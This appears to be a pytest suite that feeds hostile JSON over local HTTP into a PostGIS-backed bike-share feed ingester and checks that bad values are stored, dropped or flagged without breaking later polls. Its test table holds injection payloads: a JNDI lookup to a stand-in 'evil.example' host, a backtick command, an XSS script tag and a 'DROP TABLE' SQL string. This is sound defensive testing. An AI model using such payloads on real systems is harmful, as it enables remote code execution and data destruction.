"""Hostile feeds over real HTTP into real PostGIS: no value blinds the oversight.

For each hostile string (in ids, names and references of every kind of file):
printable ones are stored verbatim (they are data; encoding is the web's job),
invalid ones drop their record (or are ignored, for an optional field) with a
finding naming the field and the reason, the rest of the file is stored, and
the next good poll works. A file that cannot be read at all is a failed fetch
on record and an outage; a value the database refuses despite the boundary is
one too (the safety net), never a rolled-back poll with nothing on record.
"""

from __future__ import annotations

import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson
import pytest
from sqlalchemy import text

from gbfs_ingest.config import IngestSettings, OperatorSettings
from gbfs_ingest.model import FeedType
from gbfs_ingest.pipeline import Ingestor
from tests.httpserver import LocalHTTPServer, Reply

T0 = datetime(2026, 11, 2, 8, 0, tzinfo=UTC)
LAT, LON = 45.8992, 6.1294
MB = 1024 * 1024

# name -> (value, accepted as an id, accepted as a name, finding code when refused)
HOSTILE: dict[str, tuple[str, bool, bool, str | None]] = {
    "backticks": ("`whoami`", True, True, None),
    "template": ("${jndi:ldap://evil.example/a}", True, True, None),
    "script": ("</script><script>alert(1)</script>", True, True, None),
    "quotes": ('"\'\\"; DROP TABLE vehicle; --', True, True, None),
    "U+2028 U+2029": ("a\u2028b\u2029c", False, True, "value.bad_character"),
    "NUL": ("a\x00b", False, False, "value.bad_character"),
    "controls": ("\x1b[2J\x07bell", False, False, "value.bad_character"),
    "1 MB": ("x" * MB, False, False, "value.too_long"),
}


class Clock:
    def __init__(self) -> None:
        self.now = T0

    def __call__(self) -> datetime:
        return self.now

    def tick(self, seconds: float = 60) -> None:
        self.now += timedelta(seconds=seconds)


def envelope(data: dict[str, Any], at: datetime, **extra: Any) -> dict[str, Any]:
    return {"last_updated": int(at.timestamp()), "ttl": 0, "version": "2.3", "data": data, **extra}


def bike(bike_id: str, i: int, **fields: Any) -> dict[str, Any]:
    return {
        "bike_id": bike_id,
        "lat": LAT + i * 0.001,
        "lon": LON,
        "is_reserved": False,
        "is_disabled": False,
        "vehicle_type_id": "vt1",
        **fields,
    }


def clean_files(at: datetime, n: int = 10) -> dict[str, dict[str, Any]]:
    return {
        "system_information": envelope(
            {"system_id": "op", "language": "fr", "name": "Op", "timezone": "Europe/Paris"}, at
        ),
        "vehicle_types": envelope(
            {
                "vehicle_types": [
                    {
                        "vehicle_type_id": "vt1",
                        "form_factor": "bicycle",
                        "propulsion_type": "human",
                        "name": "Vélo",
                    }
                ]
            },
            at,
        ),
        "station_information": envelope(
            {"stations": [{"station_id": "st1", "name": "Gare", "lat": LAT, "lon": LON}]}, at
        ),
        "free_bike_status": envelope({"bikes": [bike(f"b{i}", i) for i in range(n)]}, at),
    }


def hostile_files(value: str, at: datetime) -> dict[str, dict[str, Any]]:
    """The clean files with ``value`` as an id, a reference and a name in each of them."""
    files = clean_files(at)
    files["system_information"]["data"].update(name=value, operator=value)
    files["vehicle_types"]["data"]["vehicle_types"][0]["name"] = value
    files["station_information"]["data"]["stations"] += [
        {"station_id": value, "name": "Quai", "lat": LAT, "lon": LON},
        {"station_id": "st3", "name": value, "lat": LAT, "lon": LON},
    ]
    files["free_bike_status"]["data"]["bikes"] += [
        bike(value, 20),
        bike("ref", 21, station_id=value, pricing_plan_id=value),
    ]
    return files


class Operator:
    """One operator published by a local server, ingested by one Ingestor."""

    def __init__(self, engine: Any, server: LocalHTTPServer, clock: Clock) -> None:
        self.engine, self.server, self.clock = engine, server, clock
        feeds = [
            {"name": name, "url": server.url(f"/{name}.json")}
            for name in (
                "system_information",
                "vehicle_types",
                "station_information",
                "free_bike_status",
            )
        ]
        server.route("/gbfs.json", Reply.json(json.dumps(envelope({"fr": {"feeds": feeds}}, T0))))
        self.publish(clean_files(clock.now))
        settings = IngestSettings(allowed_private_hosts=("127.0.0.1",), max_body_mb=8.0)
        self.ingestor = Ingestor(engine, settings, clock=clock)
        op = OperatorSettings(slug="op", name="Op", discovery_url=server.url("/gbfs.json"))
        self.feed_ids = self.ingestor.discover(op).feed_ids

    def publish(self, files: dict[str, dict[str, Any]]) -> None:
        for name, doc in files.items():
            self.publish_raw(name, orjson.dumps(doc))

    def publish_raw(self, name: str, body: bytes) -> None:
        self.server.route(f"/{name}.json", Reply(body=body))

    def poll(self, feed_type: FeedType) -> str:
        return self.ingestor.poll(self.feed_ids[feed_type]).outcome

    def poll_all(self) -> dict[str, str]:
        order = [
            FeedType.SYSTEM_INFORMATION,
            FeedType.VEHICLE_TYPES,
            FeedType.STATION_INFORMATION,
            FeedType.VEHICLE_STATUS,
        ]
        return {ft.value: self.poll(ft) for ft in order}

    def rows(self, sql: str, **params: Any) -> list[Any]:
        with self.engine.connect() as c:
            return list(c.execute(text(sql), params))

    def last_fetch(self, feed_type: FeedType) -> Any:
        return self.rows(
            "SELECT outcome, error_kind, error, record_count, invalid_count, findings"
            " FROM feed_fetch WHERE feed_id = :f ORDER BY id DESC LIMIT 1",
            f=self.feed_ids[feed_type],
        )[0]

    def open_outages(self, feed_type: FeedType) -> list[Any]:
        return self.rows(
            "SELECT kind, detail FROM outage WHERE feed_id = :f AND ended_at IS NULL",
            f=self.feed_ids[feed_type],
        )

    def vehicles(self) -> dict[str, Any]:
        rows = self.rows(
            "SELECT gbfs_id, station_id FROM vehicle_current WHERE missing_since IS NULL"
        )
        return {r.gbfs_id: r.station_id for r in rows}


@pytest.fixture
def clock() -> Clock:
    return Clock()


@pytest.fixture
def operator(engine, clock) -> Iterator[Operator]:  # type: ignore[no-untyped-def]
    with LocalHTTPServer() as server:
        op = Operator(engine, server, clock)
        assert set(op.poll_all().values()) == {"ok"}
        yield op
        op.ingestor.close()


def findings(fetch: Any) -> dict[tuple[str, str], dict[str, Any]]:
    return {(f["code"], f["path"]): f for f in fetch.findings}


@pytest.mark.parametrize("name", list(HOSTILE))
def test_hostile_strings_over_http(operator: Operator, clock: Clock, name: str) -> None:
    value, id_ok, name_ok, code = HOSTILE[name]
    clock.tick()
    operator.publish(hostile_files(value, clock.now))
    assert set(operator.poll_all().values()) == {"ok"}, "no hostile value fails a whole file"

    # vehicles: an id is stored verbatim or its record dropped; a reference is
    # stored verbatim or ignored, its vehicle kept
    vehicles = operator.vehicles()
    assert {f"b{i}" for i in range(10)} | {"ref"} <= set(vehicles)
    assert (value in vehicles) == id_ok
    assert vehicles["ref"] == (value if id_ok else None)
    fetch = operator.last_fetch(FeedType.VEHICLE_STATUS)
    assert fetch.record_count == (12 if id_ok else 11)
    assert fetch.invalid_count == (0 if id_ok else 1)
    found = findings(fetch)
    if not id_ok:
        dropped = found[(code, "/data/bikes/*/bike_id")]
        assert dropped["severity"] == "error" and dropped["message"].startswith(
            "vehicle dropped: bike_id "
        )
        ignored = found[(code, "/data/bikes/*/station_id")]
        assert ignored["severity"] == "warning"
        assert ignored["message"].startswith("station_id ignored: ")
        assert (code, "/data/bikes/*/pricing_plan_id") in found
    assert all(len(f["message"]) <= 500 and "\x00" not in f["message"] for f in fetch.findings)

    # stations: id and name
    stations = dict(operator.rows("SELECT station_id, name FROM station").__iter__())
    assert (value in stations) == id_ok
    assert stations["st3"] == (value if name_ok else None)
    fetch = operator.last_fetch(FeedType.STATION_INFORMATION)
    if not id_ok:
        assert found_error(fetch, code, "/data/stations/*/station_id")
    if not name_ok:
        assert (code, "/data/stations/*/name") in findings(fetch)

    # documents (vehicle types, system information): names verbatim or ignored
    (types,) = operator.rows(
        "SELECT records FROM feed_document WHERE feed_id = :f",
        f=operator.feed_ids[FeedType.VEHICLE_TYPES],
    )
    assert types.records[0]["name"] == (value if name_ok else None)
    (system,) = operator.rows("SELECT system_information FROM operator")
    assert (system.system_information["name"], system.system_information["operator"]) == (
        (value, value) if name_ok else (None, None)
    )

    # the next good poll works
    clock.tick()
    operator.publish(clean_files(clock.now))
    assert set(operator.poll_all().values()) == {"ok"}
    assert set(operator.vehicles()) == {f"b{i}" for i in range(10)}


def found_error(fetch: Any, code: str | None, path: str) -> bool:
    item = findings(fetch).get((code or "", path))
    return item is not None and item["severity"] == "error"


def test_huge_numbers_are_ignored_and_the_rest_stored(operator: Operator, clock: Clock) -> None:
    clock.tick()
    files = clean_files(clock.now)
    files["free_bike_status"]["data"]["bikes"][0].update(
        current_range_meters="<huge>", last_reported="<huge>"
    )
    files["free_bike_status"]["ttl"] = "<huge>"
    files["station_information"]["data"]["stations"][0]["capacity"] = "<huge>"
    for name, doc in files.items():
        operator.publish_raw(name, orjson.dumps(doc).replace(b'"<huge>"', b"9" * 25))
    assert set(operator.poll_all().values()) == {"ok"}
    assert len(operator.vehicles()) == 10
    (bike0,) = operator.rows(
        "SELECT range_m, last_reported FROM vehicle_current WHERE gbfs_id='b0'"
    )
    assert bike0.last_reported is None and bike0.range_m == pytest.approx(1e25)
    found = findings(operator.last_fetch(FeedType.VEHICLE_STATUS))
    assert ("value.out_of_range", "/ttl") in found
    assert ("time.invalid", "/data/bikes/*/last_reported") in found
    (station,) = operator.rows("SELECT capacity FROM station")
    assert station.capacity is None
    found = findings(operator.last_fetch(FeedType.STATION_INFORMATION))
    assert ("value.out_of_range", "/data/stations/*/capacity") in found


@pytest.mark.parametrize(
    ("body", "reason"),
    [
        (b"[" * 100_000 + b"]" * 100_000, "nested more than 1024 levels deep"),
        (b'{"last_updated": NaN, "ttl": 0, "data": {"bikes": []}}', "not JSON"),
        (b'{"last_updated": 1, "ttl": Infinity, "data": {"bikes": []}}', "not JSON"),
        (b'{"last_updated": 1e999, "data": {"bikes": []}}', "beyond the range of a double"),
        (b'{"ttl": ' + b"9" * 400 + b', "data": {"bikes": []}}', "beyond the range of a double"),
        (b"<html>502 Bad Gateway</html>", "not JSON"),
    ],
    ids=["100k levels", "NaN", "Infinity", "1e999", "400 digits", "html"],
)
def test_an_unreadable_file_is_a_failed_fetch_and_an_outage(
    operator: Operator, clock: Clock, body: bytes, reason: str
) -> None:
    for attempt in (1, 2):  # it persists: still one outage, two failures on record
        clock.tick()
        operator.publish_raw("free_bike_status", body)
        assert operator.poll(FeedType.VEHICLE_STATUS) == "invalid"
        fetch = operator.last_fetch(FeedType.VEHICLE_STATUS)
        assert (fetch.outcome, fetch.error_kind) == ("invalid", "parse")
        assert reason in fetch.error
        (outage,) = operator.open_outages(FeedType.VEHICLE_STATUS)
        assert outage.kind == "unavailable" and reason in outage.detail
        failures = operator.rows(
            "SELECT consecutive_failures FROM feed WHERE feed_type = 'vehicle_status'"
        )
        assert failures[0][0] == attempt
    assert len(operator.vehicles()) == 10, "nothing stored before is lost"
    (kept,) = operator.rows("SELECT count(*) FROM raw_blob WHERE size = :n", n=len(body))
    assert kept[0] == 1, "the unreadable body is kept as evidence"
    clock.tick()
    operator.publish(clean_files(clock.now, n=12))
    assert operator.poll(FeedType.VEHICLE_STATUS) == "ok"
    assert operator.open_outages(FeedType.VEHICLE_STATUS) == []
    assert len(operator.vehicles()) == 12


def test_a_deep_value_inside_a_readable_file_is_only_an_invalid_value(
    operator: Operator, clock: Clock
) -> None:
    clock.tick()
    doc = clean_files(clock.now)["free_bike_status"]
    doc["data"]["bikes"][0]["rental_uris"] = "<deep>"
    doc["data"]["bikes"][1]["is_reserved"] = "<deep>"
    doc["data"]["bikes"].append(bike("<deep>", 30))  # type: ignore[arg-type]
    body = orjson.dumps(doc).replace(b'"<deep>"', b"[" * 1000 + b"]" * 1000)
    operator.publish_raw("free_bike_status", body)
    assert operator.poll(FeedType.VEHICLE_STATUS) == "ok"
    assert len(operator.vehicles()) == 10
    fetch = operator.last_fetch(FeedType.VEHICLE_STATUS)
    assert fetch.invalid_count == 1
    assert ("value.invalid", "/data/bikes/*/bike_id") in findings(fetch)


DATA_ERROR_TRIGGER = """
CREATE FUNCTION refuse_boom() RETURNS trigger LANGUAGE plpgsql AS $$
BEGIN
  IF NEW.gbfs_id = 'boom' THEN
    RAISE EXCEPTION 'value refused by a test trigger' USING ERRCODE = '22023';
  END IF;
  RETURN NEW;
END $$;
CREATE TRIGGER refuse_boom BEFORE INSERT ON vehicle_current
  FOR EACH ROW EXECUTE FUNCTION refuse_boom();
"""


def test_a_value_the_database_refuses_is_a_failed_fetch_on_record(
    operator: Operator, clock: Clock, caplog: pytest.LogCaptureFixture
) -> None:
    """The safety net behind the boundary: a real data error from PostgreSQL (a
    trigger raising SQLSTATE 22023) rolls the poll back, then the failed fetch, its
    evidence and the outage are recorded in a fresh transaction."""
    with operator.engine.begin() as c:
        c.execute(text(DATA_ERROR_TRIGGER))
    clock.tick()
    files = clean_files(clock.now, n=12)
    files["free_bike_status"]["data"]["bikes"][11]["bike_id"] = "boom"
    operator.publish(files)
    res = operator.ingestor.poll(operator.feed_ids[FeedType.VEHICLE_STATUS])
    assert res.outcome == "invalid" and "InvalidParameterValue" in (res.error or "")
    fetch = operator.last_fetch(FeedType.VEHICLE_STATUS)
    assert (fetch.outcome, fetch.error_kind) == ("invalid", "store")
    assert "value refused by a test trigger" in fetch.error
    (outage,) = operator.open_outages(FeedType.VEHICLE_STATUS)
    assert outage.kind == "unavailable"
    assert set(operator.vehicles()) == {f"b{i}" for i in range(10)}, "the poll was rolled back"
    (blob,) = operator.rows(
        "SELECT count(*) FROM raw_blob b JOIN feed_fetch f ON f.content_hash = b.sha256"
        " WHERE f.id = (SELECT max(id) FROM feed_fetch)"
    )
    assert blob[0] == 1, "the refused body is kept as evidence"
    assert "poll not stored, recorded as a failed fetch" in caplog.text
    clock.tick()
    operator.publish(clean_files(clock.now, n=11))
    assert operator.poll(FeedType.VEHICLE_STATUS) == "ok"
    assert operator.open_outages(FeedType.VEHICLE_STATUS) == []
    assert len(operator.vehicles()) == 11
